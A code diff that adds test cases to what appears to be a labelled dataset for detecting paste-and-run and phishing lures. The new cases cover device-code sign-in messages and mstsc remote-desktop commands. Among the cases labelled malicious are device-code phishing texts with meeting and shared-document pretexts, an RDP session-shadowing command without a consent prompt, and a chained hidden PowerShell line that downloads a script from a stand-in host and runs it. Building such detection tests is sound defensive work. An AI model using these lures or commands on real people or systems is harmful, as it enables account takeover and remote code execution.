@@ -26,6 +26,13 @@ Principles:
 - `tail-addresses`: a lure's tail is words shown to a person; an address or a file path in an
   echoed line (an apt source naming pkg.example-cloudflare… and a keyring file) is no such word.
   Look-alikes: the same company's name as a word of a tail after a comment, REM or echo.
+- `device-code-docs`: documentation of the device-code flow quotes the sign-in message an app
+  shows ("open the page … and enter the code …") beside the app's side of it (its token
+  endpoint, the polling): an example, not a code someone hands you. Look-alikes: the same
+  message with a meeting, a document or an identity check as the excuse.
+- `remote-desktop`: `mstsc /v:<computer>` typed into the Run box (no web page) is an admin's
+  connection to a named computer; from a web page it is a command there like any other, and a
+  file, an address, shadowing or a chain make it a command anyway.
 - `video-page`: a video or social post's address carries ids, not a subject (youtube.com/watch):
   a download-and-run quoted there is a warning like from any page that says nothing, not a
   block as from a page about something else. Look-alikes: a lure trait, a forum thread about
@@ -185,6 +192,30 @@ def tail_addresses() -> list[dict[str, str]]:
     ]  # fmt: skip
 
 
+def device_code_docs() -> list[dict[str, str]]:
+    docs = "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code"
+    message = "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code {} to authenticate."
+    return [
+        ok("devicecode-docs-1", "Your app shows the user this message: " + message.format("H7QK2PLX9") + " Meanwhile it polls the token endpoint every 5 seconds.", "any", docs, "other"),
+        ok("devicecode-docs-2", message.format("RT4M8ZQ2W") + " The client polls the token endpoint until the user finishes signing in or the code expires.", "any", "https://docs.quillmesh.dev/auth/device-login", "other"),
+        lure("devicecode-meeting-1", "You are invited to the quarterly review meeting. To join, open https://microsoft.com/devicelogin and enter the code H7QK2PLX9.", "flagged", "T1528", "any", None, "other"),
+        lure("devicecode-document-1", "A secure document was shared with you. To view it, go to https://microsoft.com/devicelogin and enter code RT4M8ZQ2W", "flagged", "T1528", "any", "https://share-docs.example/view/8812", "other"),
+    ]  # fmt: skip
+
+
+def remote_desktop() -> list[dict[str, str]]:
+    page = "https://helpdesk-portal.example/kb/connect"
+    return [
+        ok("rdp-typed-1", "mstsc /v:term01.corp.example", "windows", None, "run_dialog"),
+        ok("rdp-typed-2", "mstsc /v:10.20.30.40:3390 /admin", "windows", None, "run_dialog"),
+        ok("rdp-typed-3", "mstsc.exe /v:jump-host /w:1600 /h:900", "windows", None, "run_dialog"),
+        lure("rdp-page-1", "mstsc /v:rdp.quiet-harbor.example", "malicious", "T1204.004", "windows", page, "run_dialog"),
+        lure("rdp-file-1", r"mstsc \\198.51.100.4\share\corp.rdp", "flagged", "T1204.004", "windows", None, "run_dialog"),
+        lure("rdp-chain-1", "mstsc /v:term01 & powershell -w h -c iwr https://quiet-harbor.test/a | iex", "malicious", "T1204.004", "windows", None, "run_dialog"),
+        lure("rdp-shadow-1", "mstsc /shadow:1 /v:term01 /control /noConsentPrompt", "flagged", "T1021.001", "windows", None, "run_dialog"),
+    ]  # fmt: skip
+
+
 def video_pages() -> list[dict[str, str]]:
     watch = "https://www.youtube.com/watch?v=Rk2wQ8pLx0c"
     return [
@@ -197,7 +228,14 @@ def video_pages() -> list[dict[str, str]]:
 
 
 def build() -> list[dict[str, str]]:
-    cases = [*tenant_sites(), *short_links(), *tail_addresses(), *video_pages()]
+    cases = [
+        *tenant_sites(),
+        *short_links(),
+        *tail_addresses(),
+        *device_code_docs(),
+        *remote_desktop(),
+        *video_pages(),
+    ]
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return cases
